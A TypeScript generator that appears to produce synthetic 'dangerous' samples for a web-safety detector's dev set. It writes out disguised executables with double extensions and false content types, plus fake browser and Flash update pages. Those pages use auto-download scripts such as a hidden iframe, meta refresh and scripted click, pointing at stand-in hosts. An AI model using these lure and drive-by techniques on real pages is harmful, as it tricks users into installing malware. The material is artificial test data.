import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { badPlace, urlAt } from '../make/hosts/hosts.ts'
import { kitExtras, wayTo } from '../make/kits/brand-kit.ts'
import { documentOf } from '../make/pages/layout.ts'
import { programOf } from '../make/programs.ts'

const UPDATES: readonly (readonly [string, string])[] = [
  ['Update your browser', 'You are using an outdated version of Chrome. Update now to continue browsing.'],
  [
    'Adobe Flash Player update required',
    'The version of this plugin is out of date. Install the update to view the content.',
  ],
  ['Your video player needs a codec', 'Install the codec pack to play this video.'],
  ['Document viewer required', 'Download the secure viewer to open this document.'],
]

const TYPES: Readonly<Record<string, string>> = {
  exe: 'application/x-msdownload',
  msi: 'application/x-msi',
  apk: 'application/vnd.android.package-archive',
  lnk: 'application/octet-stream',
  iso: 'application/octet-stream',
}

/** The answer itself is a program, under a name or a type that says something else; or the page starts its download. */
export const programDownload: Family = {
  id: 'program_download',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    return chance.maybe(0.4) ? updatePage(chance) : disguised(chance)
  },
}

function disguised(chance: Chance): Made {
  const kind = chance.of(['pe', 'pe', 'pe', 'msi', 'apk', 'lnk', 'iso'] as const)
  const extension = kind === 'pe' ? chance.of(['exe', 'scr', 'com']) : kind
  const word = chance.of(['Invoice', 'Payment_Advice', 'Statement', 'CV', 'Quotation', '請求書', 'Rechnung'])
  const file = chance.of([
    `${word}_${chance.digits(4)}.pdf.${extension}`,
    `${word}.docx.${extension}`,
    `${word}.pdf`,
    `${word}_${chance.digits(6)}.${extension}`,
  ])
  const isLying = !file.includes('.pdf.') && !file.includes('.docx.')
  const contentType = isLying
    ? chance.of(['application/pdf', 'text/html', 'image/jpeg', 'text/plain'])
    : (TYPES[extension] ?? 'application/octet-stream')
  const headers: readonly (readonly [string, string])[] = chance.maybe(0.8)
    ? [['content-disposition', `attachment; filename="${Buffer.from(file).toString('latin1')}"`]]
    : []
  const body = Buffer.concat([programOf(kind, chance), Buffer.from(chance.base64(2000), 'base64')])
  const url = urlAt(badPlace(null, chance), encodeURIComponent(file))
  return { url, body, contentType, headers, way: wayTo(url, chance), isHonest: false }
}

function updatePage(chance: Chance): Made {
  const [title, text] = chance.of(UPDATES)
  const file = `${chance.of(['https://cdn.discordapp.com/attachments/1/2', '.', '/files', `https://${chance.name(3)}.top`])}/${chance.of(['ChromeUpdate', 'setup', 'FlashPlayer', 'Update'])}.${chance.of(['exe', 'msi', 'js', 'zip', 'apk', 'hta'])}`
  const start = chance.of([
    `<meta http-equiv="refresh" content="2;url=${file}">`,
    `<script>setTimeout(function(){location.href="${file}"},1500)</script>`,
    `<iframe src="${file}" style="display:none"></iframe>`,
    `<script>window.onload=function(){var a=document.createElement("a");a.href="${file}";a.download="";document.body.append(a);a.click()}</script>`,
  ])
  const body = documentOf(
    {
      language: 'en',
      title,
      heading: title,
      main: `<p>${text}</p><a class="btn" href="${file}" download>${chance.of(['Update', 'Download', 'Install'])}</a>`,
      scripts: start + kitExtras(chance),
      skeletons: ['table', 'bootstrap', 'utility'],
    },
    chance,
  )
  const url = urlAt(badPlace(null, chance))
  return { url, body, way: wayTo(url, chance), isHonest: false }
}
